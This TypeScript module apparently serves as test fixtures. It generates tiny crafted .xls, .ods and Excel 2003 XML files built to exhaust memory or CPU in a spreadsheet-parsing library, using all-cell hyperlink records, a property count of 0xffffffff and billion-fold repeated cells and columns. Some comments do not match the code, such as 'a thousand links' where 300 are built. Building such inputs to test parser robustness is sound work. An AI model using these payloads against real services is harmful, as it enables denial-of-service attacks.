/** Files of a few kilobytes that fill all memory or keep a processor busy for ever, in the library for older formats. Each is a whole kind. */
import { CFB, utils, write } from "@e965/xlsx";
import { strToU8, unzipSync, zipSync } from "fflate";

function book(bookType: "xls" | "ods" | "xlsb"): Uint8Array {
  const made = utils.book_new();
  const rows = Array.from({ length: 300 }, (_, i) => [`形式${i}`, i]);
  utils.book_append_sheet(made, utils.aoa_to_sheet(rows), "宣传");
  return new Uint8Array(write(made, { type: "array", bookType }));
}

/** An .xls whose stream Workbook is changed. */
function xlsWith(change: (stream: Uint8Array) => Uint8Array): Uint8Array {
  const container = CFB.read(Buffer.from(book("xls")), { type: "buffer" });
  const stream = CFB.find(container, "/Workbook");
  if (!stream) throw new Error("no workbook in it");
  CFB.utils.cfb_add(container, "/Workbook", Buffer.from(change(new Uint8Array(stream.content as Uint8Array))));
  return new Uint8Array(CFB.write(container, { type: "buffer" }) as Buffer);
}

const record = (type: number, body: readonly number[]): number[] => [type & 255, type >> 8, body.length & 255, body.length >> 8, ...body];
const word = (value: number): number[] => [value & 255, value >> 8];

/** Records put before the end of the last sheet. */
const withRecords = (records: readonly number[]): Uint8Array =>
  xlsWith((stream) => Uint8Array.from([...stream.subarray(0, -4), ...records, ...stream.subarray(-4)]));

/** A thousand links, each on all cells of the sheet: 4 × 10⁹ steps a link. */
export const linksEverywhere = (): Uint8Array => {
  const range = [...word(0), ...word(0xffff), ...word(0), ...word(0xffff)];
  const link = record(0x01b8, [...range, ...Array.from({ length: 16 }, () => 0), 2, 0, 0, 0, 0, 0, 0, 0]);
  return withRecords(Array.from({ length: 300 }, () => link).flat());
};

/** An .xls that says of itself that it has four thousand million properties, as one with two blocks swapped did. */
export function countlessProperties(): Uint8Array {
  const container = CFB.read(Buffer.from(book("xls")), { type: "buffer" });
  // A header, one set of properties at byte 48: its size, and how many.
  const stream = new Uint8Array(4096);
  const view = new DataView(stream.buffer);
  view.setUint16(0, 0xfffe, true);
  view.setUint32(24, 1, true);
  stream.set([0xe0, 0x85, 0x9f, 0xf2, 0xf9, 0x4f, 0x68, 0x10, 0xab, 0x91, 0x08, 0x00, 0x2b, 0x27, 0xb3, 0xd9], 28);
  view.setUint32(44, 48, true);
  view.setUint32(48, 4000, true);
  view.setUint32(52, 0xffffffff, true);
  CFB.utils.cfb_add(container, "/\u0005SummaryInformation", Buffer.from(stream));
  return new Uint8Array(CFB.write(container, { type: "buffer" }) as Buffer);
}

/** A cell blank over 10⁹ columns: the library makes an object of each. */
export const coveredOds = (): Uint8Array => {
  const files = unzipSync(book("ods"));
  const content = new TextDecoder().decode(files["content.xml"]);
  const covered = '<table:covered-table-cell table:number-columns-repeated="1000000000"/>';
  return zipSync({ ...files, "content.xml": strToU8(content.replace("</table:table-row>", `${covered}</table:table-row>`)) });
};

/** Columns described a hundred million at a time, in XML of Excel 2003. */
export const spannedXml = (): Uint8Array =>
  strToU8(
    `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="s"><Table><Column ss:Index="1" ss:Span="2000000000"/><Row><Cell><Data ss:Type="Number">1</Data></Cell></Row></Table></Worksheet></Workbook>`,
  );
